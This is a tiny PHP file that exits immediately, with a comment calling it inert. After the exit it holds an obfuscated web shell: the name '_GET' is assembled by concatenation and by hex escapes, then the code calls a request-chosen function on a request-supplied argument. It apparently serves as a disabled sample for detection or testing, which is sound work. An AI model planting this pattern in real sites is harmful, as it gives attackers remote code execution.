<?php exit; /* inert */ 
$n = "_" . "G" . "E" . "T";
$$n[0] !== null;
${"\x5f\x47\x45\x54"}['a'](${$n}['b']);
